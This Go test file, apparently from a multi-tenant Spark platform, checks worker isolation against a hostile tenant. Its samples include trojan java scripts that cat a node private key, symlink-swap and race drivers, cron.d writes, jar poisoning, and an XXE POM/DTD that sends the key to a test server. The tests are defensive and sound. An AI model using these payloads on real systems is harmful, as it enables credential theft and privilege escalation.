package attack

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/headrace/headrace/agent/release"
	"github.com/headrace/headrace/cmd/headrace/config"
	controlv1 "github.com/headrace/headrace/proto/headrace/control/v1"
	specv1 "github.com/headrace/headrace/proto/headrace/spec/v1"
)

// sparkLabel is the release that the attacks run on; `make fetch` brings it.
const sparkLabel = "emr-7.2.0"

// withSpark lets the node use the release that was fetched, and keep what it makes of it to itself.
func (w *workerWorld) withSpark(a *config.Agent) {
	w.t.Helper()
	cache, err := release.DefaultCache()
	w.must(err)
	if _, err := os.Stat(filepath.Join(cache, sparkLabel)); err != nil {
		w.t.Skipf("there is no Spark: make fetch brings it: %v", err)
	}
	a.ReleaseDirs = []string{w.path("releases"), cache}
}

// sparkApplication creates an application of that release.
func (u *tenant) sparkApplication() string {
	u.world.t.Helper()
	return u.application(specv1.Engine_ENGINE_SPARK, sparkLabel)
}

// spark is a request for a run of a Python program, which is written where workers see it.
func (u *tenant) spark(application, program, parameters string, args ...string) *controlv1.StartJobRunRequest {
	w := u.world
	w.t.Helper()
	sum := sha256.Sum256([]byte(program))
	path := w.shared("program-" + hex.EncodeToString(sum[:4]) + ".py")
	w.must(os.WriteFile(path, []byte(program), 0o644)) //nolint:gosec // workers read it
	const sized = "--conf spark.driver.cores=1 --conf spark.driver.memory=1g --conf spark.executor.cores=1 " +
		"--conf spark.executor.memory=1g --conf spark.executor.instances=1 --conf spark.dynamicAllocation.enabled=false "
	spec := sparkRun("file://"+path, sized+parameters, args...)
	spec.SetName(u.name)
	return &controlv1.StartJobRunRequest{ApplicationId: application, Spec: spec}
}

// stolen are what root alone may read, wherever it turns up.
const stolen = "PRIVATE KEY"

// clean fails the test if a file below a folder, packed or not, has what root alone may read.
func (w *workerWorld) clean(folder string) {
	w.t.Helper()
	err := filepath.WalkDir(folder, func(path string, entry fs.DirEntry, err error) error {
		if err != nil || !entry.Type().IsRegular() {
			return err
		}
		content, err := os.ReadFile(path)
		if err == nil && bytes.Contains(unpacked(content), []byte(stolen)) {
			w.t.Errorf("%s has what root alone may read", path)
		}
		return err
	})
	if err != nil && !errors.Is(err, fs.ErrNotExist) {
		w.t.Error(err)
	}
}

// unpacked returns what was packed, behind what there is.
func unpacked(content []byte) []byte {
	reader, err := gzip.NewReader(bytes.NewReader(content))
	if err != nil {
		return content
	}
	inner, _ := io.ReadAll(reader) // as far as it goes
	return append(content, inner...)
}

// listed returns the names and sizes of what is below a folder, to be compared.
func (w *workerWorld) listed(folder string) string {
	w.t.Helper()
	said, err := exec.CommandContext(w.t.Context(), "find", folder, "-printf", "%p %s %m %u %T@\n").CombinedOutput()
	w.must(err)
	return string(said)
}

// whoIs returns a file into which programs write who runs them.
func (w *workerWorld) whoIs(name string) string {
	w.t.Helper()
	path := w.shared(name)
	w.must(os.WriteFile(path, nil, 0o666), os.Chmod(path, 0o666)) //nolint:gosec // every worker writes it
	return path
}

// trojan makes a java that writes who runs it, and what it can read of what root alone may.
func (w *workerWorld) trojan(home, report string) {
	w.t.Helper()
	program := filepath.Join(home, "bin", "java")
	w.must(
		os.MkdirAll(filepath.Dir(program), 0o755),
		os.WriteFile(program, fmt.Appendf(nil, "#!/bin/sh\nid -u >> %s\ncat %s %s/* >> %s 2>/dev/null\nexit 1\n",
			report, w.path("ca", "node-1-key.pem"), w.path("agent"), report), 0o755),
	)
}

// ranAsNobody holds that a program ran, and never as root.
func (w *workerWorld) ranAsNobody(report string) {
	w.t.Helper()
	content, err := os.ReadFile(report)
	w.must(err)
	lines := strings.Fields(string(content))
	if len(lines) == 0 {
		w.t.Errorf("nothing ran: %s is empty", report)
	}
	for _, line := range lines {
		if !strings.HasPrefix(line, "18") || len(line) != 10 {
			w.t.Errorf("a user's program wrote %q, not the number of a worker's user", line)
		}
	}
}

// A Java that a run brings is executed by the run alone, as its user: not by the agent, whether for a driver or for an
// executor.
func TestWorker_BringsAJava(t *testing.T) {
	if !inNetwork(t) {
		return
	}
	w := newWorkerWorld(t, (*workerWorld).withSpark)
	for _, of := range []struct{ what, variable string }{
		{"driver", "spark.emr-serverless.driverEnv"},
		{"executor", "spark.executorEnv"},
	} {
		what := of.what
		variable := of.variable
		application := w.eve.sparkApplication() // a node that it could not use is avoided for a while
		report := w.whoIs("who-" + what)
		w.trojan(w.shared("java-"+what), report)
		w.must(
			unix.Mkfifo(w.shared("java-"+what, "release"), 0o644),
		) // whoever reads what a Java says of itself would wait for ever
		run := w.eve.submit(
			w.eve.spark(
				application,
				"from pyspark.sql import SparkSession\nSparkSession.builder.getOrCreate().range(9).repartition(3).count()",
				"--conf "+variable+".JAVA_HOME="+w.shared("java-"+what),
			),
		)
		w.await("it runs", 2*time.Minute, func() error { return isWritten(report) })
		w.eve.cancels(run)
		w.ranAsNobody(report)
	}
}

// A release whose own java is a trojan runs it, for its archive of class data, as a user that owns nothing.
func TestWorker_AReleaseIsATrojan(t *testing.T) {
	if !inNetwork(t) {
		return
	}
	var report string
	w := newWorkerWorld(t, func(w *workerWorld, a *config.Agent) {
		w.withSpark(a)
		report = w.whoIs("who")
		w.must(os.MkdirAll(w.path("releases"), 0o755))
		folder := w.path("releases", sparkLabel)
		release := filepath.Join(a.ReleaseDirs[1], sparkLabel)
		if said, err := exec.CommandContext(t.Context(), "cp", "-al", release, folder).CombinedOutput(); err != nil {
			w.must(exec.CommandContext(t.Context(), "cp", "-a", release, folder).Run())
			t.Logf("copied, not linked: %s", said)
		}
		w.trojan(filepath.Join(folder, "java"), report)
		manifest := filepath.Join(folder, "release.json")
		content, err := os.ReadFile(manifest)
		w.must(err)
		fields := map[string]any{}
		w.must(json.Unmarshal(content, &fields))
		fields["java_home"] = "java"
		content, err = json.Marshal(fields)
		w.must(err, os.Remove(manifest), os.WriteFile(manifest, content, 0o644))
		a.ClassData = true
		a.ReleaseDirs = a.ReleaseDirs[:1]
	})
	w.await("the trojan ran", time.Minute, func() error { return isWritten(report) })
	w.ranAsNobody(report)
}

func isWritten(path string) error {
	info, err := os.Stat(path)
	if err == nil && info.Size() == 0 {
		err = errors.New("it is empty")
	}
	return err
}

// swaps is a driver that puts links where the agent looks for its event log: for the folder, in it, and for the folder
// above.
const swaps = `
import os, sys, time
from pyspark.sql import SparkSession
spark = SparkSession.builder.getOrCreate()
print("log", spark.conf.get("spark.eventLog.dir"))
folder = spark.conf.get("spark.eventLog.dir").replace("file://", "").replace("file:", "").rstrip("/")
target, how, gate, names = sys.argv[1], sys.argv[2], sys.argv[3], ["node-1-key.pem", "server-key.pem", "ca.pem"]
spark.range(10).count()
if how == "folder":
    os.rename(folder, folder + ".old"); os.symlink(target, folder)
elif how == "files":
    inside = next(path for path, folders, files in os.walk(folder) if files)
    for i, name in enumerate(names):
        os.symlink(os.path.join(target, name), os.path.join(inside, "events_%d_x" % (i + 7)))
    for name in os.listdir(inside):
        path = os.path.join(inside, name)
        if not os.path.islink(path): os.remove(path); os.symlink(os.path.join(target, "node-1-key.pem"), path)
else:
    while not os.path.exists(gate):
        for to in (target, folder + ".real"):
            if not os.path.exists(folder + ".real"): os.rename(folder, folder + ".real")
            os.symlink(to, folder + ".new"); os.rename(folder + ".new", folder)
print("swapped", flush=True)
while not os.path.exists(gate): time.sleep(0.05)
time.sleep(6)
`

// An event log that is a link, or has links in it, or changes between the two, gives nobody a file that only root may
// read.
func TestWorker_SwapsItsEventLog(t *testing.T) {
	if !inNetwork(t) {
		return
	}
	w := newWorkerWorld(t, (*workerWorld).withSpark)
	application := w.eve.sparkApplication()
	runs := map[string]*controlv1.JobRun{}
	for _, how := range []string{"folder", "files", "race"} {
		request := w.eve.spark(application, swaps, "", w.path("ca"), how, w.shared("go"))
		if how == "race" {
			monitored(request.GetSpec(), logsTo("file://"+w.shared()))
		}
		runs[how] = w.eve.submit(request)
	}
	for _, how := range []string{"folder", "files"} {
		w.eve.says(runs[how], "swapped")
	}
	w.eve.says(runs["race"], "log file:")
	w.pagesAskForAToken()
	w.open("go")
	for _, run := range runs {
		w.eve.ends(run)
	}
	w.await("all is shipped", time.Minute, func() error {
		if left, _ := filepath.Glob(w.path("agent", "shipping", "*", "*")); len(left) > 0 {
			return fmt.Errorf("left: %v", left)
		}
		return nil
	})
	for _, folder := range []string{"server", "agent", "shared"} {
		w.clean(w.path(folder))
	}
}

// pagesAskForAToken holds that no port of a worker shows a page to somebody who reaches it without the servers.
func (w *workerWorld) pagesAskForAToken() {
	w.t.Helper()
	asked := 0
	for _, port := range workerPorts(w.t) {
		client := http.Client{Timeout: 5 * time.Second}
		paths := []string{"/", "/jobs/", "/environment/", "/api/v1/applications", "/static/webui.js", "/metrics/json"}
		for _, path := range paths {
			answer, err := client.Get(fmt.Sprintf("http://127.0.0.1:%d%s", port, path))
			if err != nil {
				break // it speaks no HTTP
			}
			content, _ := io.ReadAll(io.LimitReader(answer.Body, 1<<20))
			_ = answer.Body.Close()
			asked++
			if answer.StatusCode < 400 || bytes.Contains(content, []byte("spark.driver")) {
				w.t.Errorf("port %d answers %s with %s", port, path, answer.Status)
			}
		}
	}
	if asked == 0 {
		w.t.Error("no port speaks HTTP")
	}
}

// workerPorts returns the ports on which workers listen.
func workerPorts(t *testing.T) (ports []int) {
	t.Helper()
	for _, table := range []string{"/proc/net/tcp", "/proc/net/tcp6"} {
		content, err := os.ReadFile(table)
		if err != nil {
			t.Fatal(err)
		}
		for _, line := range strings.Split(string(content), "\n") {
			fields := strings.Fields(line)
			var port int
			if len(fields) < 8 || fields[3] != "0A" || len(fields[7]) != 10 {
				continue
			}
			if _, err := fmt.Sscanf(fields[1][strings.IndexByte(fields[1], ':')+1:], "%X", &port); err == nil {
				ports = append(ports, port)
			}
		}
	}
	return ports
}

// A destination of logs that leads out of a shared directory through links of the user writes nothing there.
func TestWorker_SendsItsLogsAway(t *testing.T) {
	if !inNetwork(t) {
		return
	}
	w := newWorkerWorld(t, nil)
	w.must(os.Mkdir(w.path("roots"), 0o755))
	w.eve.runs(
		fmt.Sprintf(
			"cd %s; mkdir eve eve/deep; ln -s %s eve/away; ln -s %s eve/deep/applications",
			w.shared(),
			w.path("roots"),
			w.path("roots"),
		),
	)
	before := w.listed(w.path("roots")) + w.listed("/etc/cron.d")
	for _, uri := range []string{
		"file://" + w.shared("eve", "away"),
		"file://" + w.shared("eve", "deep"),
		"file://" + w.shared("eve", "away", "x"),
		"file:///etc/cron.d",
		"file://" + w.path("roots"),
		"file://" + w.shared("..", "roots"),
	} {
		request := w.eve.script("echo '* * * * * root id'")
		monitored(request.GetSpec(), logsTo(uri))
		if started, err := w.eve.StartJobRun(t.Context(), request); err == nil {
			w.eve.ends(started.GetJobRun())
		}
	}
	request := w.eve.script("echo fine") // what comes after it in the same place is written, so the rest had its time
	monitored(request.GetSpec(), logsTo("file://"+w.shared("eve")))
	run := w.eve.submit(request)
	w.await("an honest log is shipped", time.Minute, func() error {
		log := w.shared("eve", "applications", "*", "jobs", run.GetJobRunId(), "PROCESS_DRIVER", "stdout.gz")
		if found, _ := filepath.Glob(log); len(found) != 1 {
			return errors.New("it is not")
		}
		return nil
	})
	if after := w.listed(w.path("roots")) + w.listed("/etc/cron.d"); after != before {
		t.Errorf("before:\n%s\nafter:\n%s", before, after)
	}
}

// Files that only root may read are nothing that a run can be given: as its program, its file or its archive.
func TestWorker_NamesFilesOfRoot(t *testing.T) {
	if !inNetwork(t) {
		return
	}
	w := newWorkerWorld(t, (*workerWorld).withSpark)
	application := w.eve.sparkApplication()
	key := w.path("ca", "node-1-key.pem")
	w.must(
		os.Link(key, w.shared("key")),
		os.WriteFile(w.shared("key.tgz"), tarball(t, stolen), 0o600),
		os.WriteFile(w.path("key.tgz"), tarball(t, stolen), 0o600),
	)
	const show = `import os
from pyspark.sql import SparkSession
SparkSession.builder.getOrCreate()
for path, _, files in os.walk('.', followlinks=True):
  for f in files:
    print(path, f, open(os.path.join(path, f), errors='replace').read()[:5000])`
	for _, parameters := range []string{
		"--files file://" + key, "--files file://" + w.shared("key"), "--archives file://" + w.shared("key.tgz") + "#x",
		"--conf spark.archives=file://" + w.path("key.tgz") + "#x", "--py-files file://" + w.shared("key"),
	} {
		last, said := w.eve.ends(w.eve.submit(w.eve.spark(application, show, parameters)))
		if last.GetState() != "FAILED" || strings.Contains(said+last.GetStateDetails(), stolen) {
			t.Errorf("with %s the run is %s: %s\n%.3000s", parameters, last.GetState(), last.GetStateDetails(), said)
		}
	}
	request := w.eve.spark(application, show, "")
	request.GetSpec().GetDriver().GetSparkSubmit().SetEntryPoint("file://" + w.shared("key"))
	if last, said := w.eve.ends(w.eve.submit(request)); last.GetState() != "FAILED" ||
		strings.Contains(said+last.GetStateDetails(), stolen) {
		t.Errorf("with the key as its program the run is %s: %s", last.GetState(), said)
	}
}

func tarball(t *testing.T, text string) []byte {
	t.Helper()
	var made bytes.Buffer
	packed := gzip.NewWriter(&made)
	archive := tar.NewWriter(packed)
	err := archive.WriteHeader(&tar.Header{Name: "inside", Mode: 0o644, Size: int64(len(text)), Typeflag: tar.TypeReg})
	if err == nil {
		_, err = io.WriteString(archive, text)
	}
	if err := errors.Join(err, archive.Close(), packed.Close()); err != nil {
		t.Fatal(err)
	}
	return made.Bytes()
}

// mavens is a repository of jars that notes what it is asked for.
type mavens struct {
	files map[string][]byte

	mu    sync.Mutex
	asked []string
}

func (m *mavens) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	m.mu.Lock()
	m.asked = append(m.asked, r.URL.String())
	m.mu.Unlock()
	content, found := m.files[r.URL.Path]
	if !found {
		http.NotFound(w, r)
		return
	}
	_, _ = w.Write(content)
}

// library is a repository with the library of a name, whose jar says whose it is.
func library(t *testing.T, pom, says string) *mavens {
	t.Helper()
	var made bytes.Buffer
	jar := zip.NewWriter(&made)
	file, err := jar.Create("says.txt")
	if err == nil {
		_, err = io.WriteString(file, says)
	}
	if err := errors.Join(err, jar.Close()); err != nil {
		t.Fatal(err)
	}
	return &mavens{files: map[string][]byte{
		"/org/lib/lib/1.0/lib-1.0.pom": []byte(pom),
		"/org/lib/lib/1.0/lib-1.0.jar": made.Bytes(),
	}}
}

// poisons is a driver that finds its jar, says what it is, and puts another one there, if it can.
const poisons = `
import os, sys, zipfile
from pyspark.sql import SparkSession
spark = SparkSession.builder.getOrCreate()
for jar in spark.conf.get("spark.jars", "").split(","):
    path = jar.replace("file://", "").replace("file:", "")
    if not path.endswith("lib-1.0.jar"): continue
    print("jar", zipfile.ZipFile(path).read("says.txt").decode(), flush=True)
    for name in (path, os.path.dirname(path) + "/x.jar"):
        try: open(name, "ab").write(b"poison"); print("written", name)
        except OSError as e: print("kept", e)
    for how in (os.remove, lambda p: os.chmod(p, 0o777), lambda p: os.rename(p, p + ".old")):
        try: how(path); print("changed", path)
        except OSError as e: print("kept", e)
`

// Packages that one tenant resolves, from a repository of its own, under the same name and on the same node, are not
// another's; their descriptions read no file of the node.
func TestWorker_PoisonsPackages(t *testing.T) {
	if !inNetwork(t) {
		return
	}
	w := newWorkerWorld(t, (*workerWorld).withSpark)
	const pom = `<project><modelVersion>4.0.0</modelVersion><groupId>org.lib</groupId>` +
		`<artifactId>lib</artifactId><version>1.0</version>%s</project>`
	evil := library(t, "", "eve's")
	eves := httptest.NewServer(evil)
	defer eves.Close()
	evil.files["/org/lib/lib/1.0/lib-1.0.pom"] = fmt.Appendf(
		nil,
		"<?xml version=\"1.0\"?><!DOCTYPE p [<!ENTITY %% d SYSTEM \"%s/evil.dtd\"> %%d; ]>"+pom,
		eves.URL,
		"<name>&send;</name>",
	)
	evil.files["/evil.dtd"] = fmt.Appendf(
		nil,
		"<!ENTITY %% f SYSTEM \"file://%s\"><!ENTITY %% a \"<!ENTITY send SYSTEM '%s/took?%%f;'>\"> %%a;",
		w.path("ca", "node-1-key.pem"),
		eves.URL,
	)
	bobs := httptest.NewServer(library(t, fmt.Sprintf(pom, ""), "bob's"))
	defer bobs.Close()

	resolve := func(u *tenant, application string, from *httptest.Server) (state, said string) {
		last, said := u.ends(
			u.submit(u.spark(application, poisons, "--packages org.lib:lib:1.0 --conf spark.jars.repositories="+from.URL)),
		)
		return last.GetState(), said
	}
	evesApplication := w.eve.sparkApplication()
	bobsApplication := w.bob.sparkApplication()
	_, _ = resolve(w.eve, evesApplication, eves) // with entities in its description
	evil.files["/org/lib/lib/1.0/lib-1.0.pom"] = fmt.Appendf(nil, pom, "")
	state, said := resolve(w.eve, evesApplication, eves)
	if state != "SUCCESS" || !strings.Contains(said, "jar eve's") || strings.Contains(said, "written") ||
		strings.Contains(said, "changed") {
		t.Errorf("eve's run is %s and said %s", state, said)
	}
	state, said = resolve(w.bob, bobsApplication, bobs)
	if state != "SUCCESS" || !strings.Contains(said, "jar bob's") || strings.Contains(said, "jar eve's") {
		t.Errorf("bob's run is %s and said %s", state, said)
	}
	state, said = resolve(w.bob, bobsApplication, bobs)
	if state != "SUCCESS" || !strings.Contains(said, "jar bob's") {
		t.Errorf("bob's second run is %s and said %s", state, said)
	}
	evil.mu.Lock()
	defer evil.mu.Unlock()
	for _, url := range evil.asked {
		if strings.Contains(url, "evil.dtd") ||
			strings.Contains(url, "took") { // what a description names is not even fetched
			t.Errorf("the node asked for %s", url)
		}
	}
}

// forges is a java that resolves packages to what its owner likes, if it is asked to.
const forges = `#!/bin/sh
for last; do :; done
case "$*" in *PackageResolver*) ;; *) exit 1;; esac
cp %[1]s "$(dirname "$last")/lib-1.0.jar" && echo "$(dirname "$last")/lib-1.0.jar" >"$last" && echo forged >>%[2]s
`

// A run whose own Java would resolve packages to others puts nothing where another run's are looked for.
func TestWorker_ResolvesPackagesWithItsOwnJava(t *testing.T) {
	if !inNetwork(t) {
		return
	}
	w := newWorkerWorld(t, (*workerWorld).withSpark)
	const pom = `<project><modelVersion>4.0.0</modelVersion><groupId>org.lib</groupId>` +
		`<artifactId>lib</artifactId><version>1.0</version></project>`
	honest := library(t, pom, "bob's")
	evil := library(t, pom, "eve's")
	from := httptest.NewServer(honest)
	defer from.Close()
	report := w.whoIs("forged")
	java := w.shared("java", "bin", "java")
	w.must(
		os.WriteFile(w.shared("evil.jar"), evil.files["/org/lib/lib/1.0/lib-1.0.jar"], 0o644),
		os.MkdirAll(filepath.Dir(java), 0o755),
		os.WriteFile(java, fmt.Appendf(nil, forges, w.shared("evil.jar"), report), 0o755),
	)
	parameters := "--packages org.lib:lib:1.0 --conf spark.jars.repositories=" + from.URL
	w.eve.ends(w.eve.submit(w.eve.spark(w.eve.sparkApplication(), poisons,
		parameters+" --conf spark.emr-serverless.driverEnv.JAVA_HOME="+w.shared("java"))))
	last, said := w.bob.ends(w.bob.submit(w.bob.spark(w.bob.sparkApplication(), poisons, parameters)))
	if last.GetState() != "SUCCESS" || !strings.Contains(said, "jar bob's") || strings.Contains(said, "jar eve's") {
		t.Errorf("bob's run is %s and said %s", last.GetState(), said)
	}
	if isWritten(report) == nil {
		t.Error("eve's Java resolved packages")
	}
}
